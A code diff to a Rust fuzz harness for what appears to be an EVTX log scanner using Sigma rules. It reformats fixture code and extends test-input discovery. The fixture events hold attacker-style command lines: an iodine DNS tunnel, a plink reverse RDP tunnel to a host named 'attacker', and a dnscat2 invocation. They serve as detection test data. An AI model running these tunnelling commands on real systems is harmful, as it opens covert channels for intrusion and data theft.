@@ -1,6 +1,6 @@
 //! What the fuzz targets run, as plain functions: cargo-fuzz calls them with libFuzzer's inputs
-//! (`cargo +nightly fuzz run NAME`), and `cargo test --manifest-path fuzz/Cargo.toml` replays the
-//! seeds and every saved crash input on stable, without libFuzzer.
+//! (`cargo +nightly fuzz run NAME`); the main crate's `tests/untrusted_fuzz_replay.rs` includes
+//! this file and replays the seeds and every saved crash input on stable, without libFuzzer.
 
 use evtxscan::discover::LogFile;
 use evtxscan::event::{Event, Field, Source};
@@ -76,7 +76,9 @@ pub fn evtx_read(data: &[u8]) {
         recover: data.len() % 2 == 1,
         chunk_batch: 2,
     };
-    let report = read_log(&log, &options, &FileControl::default(), &|events: Vec<Event>| {
+    let report = read_log(&log, &options, &FileControl::default(), &|events: Vec<
+        Event,
+    >| {
         for e in &events {
             // Touch what detection touches.
             let _ = e.get_str("CommandLine");
@@ -139,28 +141,51 @@ pub fn events() -> Vec<Event> {
     };
     let sysmon = "Microsoft-Windows-Sysmon/Operational";
     vec![
-        event(1, sysmon, "Microsoft-Windows-Sysmon", &[
-            ("Image", "C:\\Users\\Public\\iodine.exe"),
-            ("CommandLine", "iodine.exe -f -P secret t1.example.com"),
-            ("ParentImage", "C:\\Windows\\System32\\cmd.exe"),
-            ("User", "CORP\\alice"),
-            ("OriginalFileName", "iodine.exe"),
-        ]),
-        event(22, sysmon, "Microsoft-Windows-Sysmon", &[
-            ("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
-            ("QueryName", "pastebin.com"),
-            ("QueryStatus", "0"),
-            ("QueryResults", "type: 5 ::ffff:104.20.67.143;"),
-        ]),
-        event(4688, "Security", "Microsoft-Windows-Security-Auditing", &[
-            ("NewProcessName", "C:\\Windows\\System32\\plink.exe"),
-            ("CommandLine", "plink.exe -R 3389:127.0.0.1:3389 attacker"),
-            ("SubjectUserName", "alice"),
-        ]),
-        event(4104, "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", &[
-            ("ScriptBlockText", "Start-Dnscat2 -Domain example.com"),
-            ("ScriptBlockId", "{00000000-0000-0000-0000-000000000000}"),
-        ]),
+        event(
+            1,
+            sysmon,
+            "Microsoft-Windows-Sysmon",
+            &[
+                ("Image", "C:\\Users\\Public\\iodine.exe"),
+                ("CommandLine", "iodine.exe -f -P secret t1.example.com"),
+                ("ParentImage", "C:\\Windows\\System32\\cmd.exe"),
+                ("User", "CORP\\alice"),
+                ("OriginalFileName", "iodine.exe"),
+            ],
+        ),
+        event(
+            22,
+            sysmon,
+            "Microsoft-Windows-Sysmon",
+            &[
+                (
+                    "Image",
+                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                ),
+                ("QueryName", "pastebin.com"),
+                ("QueryStatus", "0"),
+                ("QueryResults", "type: 5 ::ffff:104.20.67.143;"),
+            ],
+        ),
+        event(
+            4688,
+            "Security",
+            "Microsoft-Windows-Security-Auditing",
+            &[
+                ("NewProcessName", "C:\\Windows\\System32\\plink.exe"),
+                ("CommandLine", "plink.exe -R 3389:127.0.0.1:3389 attacker"),
+                ("SubjectUserName", "alice"),
+            ],
+        ),
+        event(
+            4104,
+            "Microsoft-Windows-PowerShell/Operational",
+            "Microsoft-Windows-PowerShell",
+            &[
+                ("ScriptBlockText", "Start-Dnscat2 -Domain example.com"),
+                ("ScriptBlockId", "{00000000-0000-0000-0000-000000000000}"),
+            ],
+        ),
     ]
 }
 
@@ -168,11 +193,27 @@ pub fn events() -> Vec<Event> {
 mod tests {
     use std::path::Path;
 
-    /// Every file under `fuzz/seeds/NAME` and `fuzz/regressions/NAME` (the saved crashes).
+    /// Every file under `fuzz/seeds/NAME` and `fuzz/regressions/NAME` (the saved crashes), and
+    /// the rules of `rules/sigma` (Sigma) or the logs of `samples/` (EVTX). Works from the fuzz crate and from the main crate's
+    /// `tests/untrusted_fuzz_replay.rs`, which includes this file.
     fn inputs(name: &str) -> Vec<Vec<u8>> {
-        let root = Path::new(env!("CARGO_MANIFEST_DIR"));
+        let manifest = Path::new(env!("CARGO_MANIFEST_DIR"));
+        let fuzz = if manifest.join("fuzz").join("seeds").is_dir() {
+            manifest.join("fuzz")
+        } else {
+            manifest.to_path_buf()
+        };
+        let mut dirs = vec![
+            fuzz.join("seeds").join(name),
+            fuzz.join("regressions").join(name),
+        ];
+        match name {
+            "sigma_load" => dirs.push(fuzz.join("..").join("rules").join("sigma")),
+            "evtx_read" => dirs.push(fuzz.join("..").join("samples")),
+            _ => {}
+        }
         let mut out = Vec::new();
-        for dir in [root.join("seeds").join(name), root.join("regressions").join(name)] {
+        for dir in dirs {
             if let Ok(entries) = std::fs::read_dir(&dir) {
                 for e in entries.flatten() {
                     if e.path().is_file() {
